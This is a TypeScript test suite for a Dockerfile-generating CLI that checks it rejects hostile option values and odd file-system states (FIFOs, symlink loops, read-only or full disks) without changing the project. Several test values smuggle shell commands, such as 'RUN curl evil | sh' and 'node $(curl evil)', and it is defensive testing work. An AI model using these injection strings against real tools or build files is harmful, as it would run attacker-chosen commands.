import assert from 'node:assert/strict';
import { execFileSync, spawnSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { lstatSync, mkdirSync, mkdtempSync, readFileSync, readdirSync, readlinkSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { REPO, nodeProject, runCli } from '../support/cli.js';

/** Hash of every entry under dir (names, link targets, file bytes), to prove nothing changed. */
export function treeHash(dir: string): string {
  const h = createHash('sha256');
  const walk = (d: string): void => {
    for (const name of readdirSync(d).sort()) {
      const p = path.join(d, name);
      const st = lstatSync(p);
      h.update(`${path.relative(dir, p)}|${st.mode}|`);
      if (st.isSymbolicLink()) h.update(readlinkSync(p));
      else if (st.isDirectory()) walk(p);
      else if (st.isFile()) h.update(readFileSync(p));
    }
  };
  walk(dir);
  return h.digest('hex');
}

const STACKS = path.join(REPO, 'packages', 'core', 'test', 'fixtures', 'stacks');

function canMount(): boolean {
  if (process.getuid?.() !== 0) return false;
  const probe = mkdtempSync(path.join(tmpdir(), 'dockstack-mnt-'));
  const r = spawnSync('mount', ['-t', 'tmpfs', '-o', 'size=64k', 'tmpfs', probe]);
  if (r.status !== 0) return false;
  spawnSync('umount', [probe]);
  return true;
}

describe('hostile input: a specific error and an unchanged project', function () {
  this.timeout(60_000);

  describe('option values', function () {
    const cases: Array<[string, string, RegExp]> = [
      ['nodeVersion', '22\nRUN curl evil | sh', /newline or control character/],
      ['startCommand', 'node "server.js"', /must match the pattern/],
      ['startCommand', 'node $(curl evil)', /must match the pattern/],
      ['startCommand', 'node `id`', /must match the pattern/],
      ['healthcheckPath', "/'+process.exit(0)+'", /must match the pattern/],
      ['appName', 'x'.repeat(5000), /must match the pattern|must NOT have more than/],
      ['nodeVersion', '２２', /must match the pattern/],
      ['appName', 'café-☕', /must match the pattern/],
      ['registry', 'evil.example.com/x y', /must match the pattern/],
      ['port', '99999', /must be <= 65535/],
      ['tini', 'maybe', /must be of type boolean/],
    ];
    for (const [option, value, rule] of cases) {
      it(`${option}=${JSON.stringify(value.slice(0, 30))} is refused naming ${option}`, function () {
        const dir = nodeProject({ Dockerfile: 'FROM scratch\n' });
        const before = treeHash(dir);
        const r = runCli(['add', 'node', '--set', `${option}=${value}`, '--yes', '--force', '--json', '--cwd', dir]);
        assert.equal(r.status, 3, r.stdout + r.stderr);
        const error = r.json().error;
        assert.equal(error.option, option);
        assert.equal(error.source, 'flag --set');
        assert.match(error.message, rule);
        assert.ok(error.hint, 'has a hint');
        assert.equal(treeHash(dir), before);
      });
    }
  });

  describe('projects', function () {
    it('a FIFO named package.json does not hang detection', function () {
      const dir = mkdtempSync(path.join(tmpdir(), 'dockstack-fifo-'));
      execFileSync('mkfifo', [path.join(dir, 'package.json')]);
      const before = treeHash(dir);
      const started = Date.now();
      const r = runCli(['init', '--yes', '--json', '--cwd', dir]);
      assert.ok(Date.now() - started < 15_000);
      assert.equal(r.status, 5, r.stderr);
      assert.equal(r.json().error.code, 'E_DETECT_NONE');
      assert.equal(treeHash(dir), before);
    });

    it('a FIFO named Dockerfile is never opened: E_WRITE, exit 7, nothing changed', function () {
      const dir = nodeProject();
      execFileSync('mkfifo', [path.join(dir, 'Dockerfile')]);
      const before = treeHash(dir);
      const started = Date.now();
      const r = runCli(['init', '--yes', '--force', '--cwd', dir]);
      assert.ok(Date.now() - started < 20_000);
      assert.equal(r.status, 7, r.stderr);
      assert.match(r.stderr, /not a regular file/);
      assert.equal(treeHash(dir), before);
    });

    it('a FIFO in place of the config file is never opened: a specific error, nothing changed', function () {
      const dir = nodeProject();
      execFileSync('mkfifo', [path.join(dir, '.dockstackrc.json')]);
      const before = treeHash(dir);
      const started = Date.now();
      const r = runCli(['init', '--yes', '--cwd', dir]);
      assert.ok(Date.now() - started < 20_000);
      assert.notEqual(r.status, 0);
      assert.match(r.stderr, /\.dockstackrc\.json.*not a regular file/);
      assert.equal(treeHash(dir), before);
    });

    it('a directory named package.json and a dangling .nvmrc link are read as absent', function () {
      const dir = nodeProject();
      symlinkSync('/nonexistent/target', path.join(dir, '.node-version'));
      mkdirSync(path.join(dir, 'next.config.js'));
      const r = runCli(['detect', '--json', '--cwd', dir]);
      assert.equal(r.status, 0, r.stderr);
      assert.equal(r.json().candidates[0].id, 'node');
    });

    it('a symlink loop is survived', function () {
      const dir = nodeProject();
      symlinkSync(path.join(dir, 'loop-b'), path.join(dir, 'loop-a'));
      symlinkSync(path.join(dir, 'loop-a'), path.join(dir, 'loop-b'));
      symlinkSync(dir, path.join(dir, 'self'));
      const r = runCli(['detect', '--json', '--cwd', dir]);
      assert.equal(r.status, 0, r.stderr);
      assert.equal(r.json().candidates[0].id, 'node');
    });

    it('a huge directory tree keeps detection bounded in files read and time', function () {
      this.timeout(120_000);
      const dir = nodeProject();
      for (let i = 0; i < 40; i++) {
        const sub = path.join(dir, `cmd`, `svc${i}`);
        mkdirSync(sub, { recursive: true });
        for (let j = 0; j < 500; j++) writeFileSync(path.join(sub, `f${j}.txt`), 'x');
      }
      const started = Date.now();
      const r = runCli(['detect', '--json', '--cwd', dir]);
      const ms = Date.now() - started;
      assert.equal(r.status, 0, r.stderr);
      assert.ok(r.json().read.files <= 256 * 10, `read ${r.json().read.files} files`);
      assert.ok(ms < 20_000, `took ${ms} ms`);
    });
  });

  describe('stacks', function () {
    it('a stack whose template throws fails with E_TEMPLATE and writes nothing', function () {
      const dir = nodeProject();
      const before = treeHash(dir);
      const r = runCli(['add', 'broken', '--set', 'greeting=hi', '--yes', '--cwd', dir], {
        env: { DOCKSTACK_STACK_PATH: path.join(STACKS, 'template-throws') },
      });
      assert.equal(r.status, 4);
      assert.match(r.stderr, /E_TEMPLATE/);
      assert.match(r.stderr, /template exploded/);
      assert.equal(treeHash(dir), before);
    });
  });

  describe('file system', function () {
    before(function () {
      if (!canMount()) {
        console.log('      (skipped: needs root and tmpfs mounts to make a read-only or full file system)');
        this.skip();
      }
    });

    it('a read-only project directory: E_WRITE, exit 7, nothing changed', function () {
      const src = nodeProject({ Dockerfile: 'FROM scratch\n' });
      const mnt = mkdtempSync(path.join(tmpdir(), 'dockstack-ro-'));
      execFileSync('mount', ['-t', 'tmpfs', '-o', 'size=1m', 'tmpfs', mnt]);
      try {
        execFileSync('cp', ['-a', `${src}/.`, mnt]);
        execFileSync('mount', ['-o', 'remount,ro', mnt]);
        const before = treeHash(mnt);
        const r = runCli(['init', '--yes', '--force', '--cwd', mnt]);
        assert.equal(r.status, 7, r.stderr);
        assert.match(r.stderr, /not writable|read-only/);
        assert.equal(treeHash(mnt), before);
      } finally {
        spawnSync('umount', [mnt]);
      }
    });

    it('a full disk: E_WRITE, exit 7, the old Dockerfile survives and no temporary file is left', function () {
      const src = nodeProject({ Dockerfile: 'FROM scratch\n' });
      const mnt = mkdtempSync(path.join(tmpdir(), 'dockstack-full-'));
      execFileSync('mount', ['-t', 'tmpfs', '-o', 'size=128k', 'tmpfs', mnt]);
      try {
        execFileSync('cp', ['-a', `${src}/.`, mnt]);
        spawnSync('dd', ['if=/dev/zero', `of=${path.join(mnt, 'filler')}`, 'bs=4k', 'count=1000']);
        const before = treeHash(mnt);
        const r = runCli(['init', '--yes', '--force', '--cwd', mnt]);
        assert.equal(r.status, 7, r.stderr);
        assert.match(r.stderr, /disk is full/);
        assert.equal(readFileSync(path.join(mnt, 'Dockerfile'), 'utf8'), 'FROM scratch\n');
        assert.equal(treeHash(mnt), before);
      } finally {
        spawnSync('umount', [mnt]);
      }
    });
  });
});
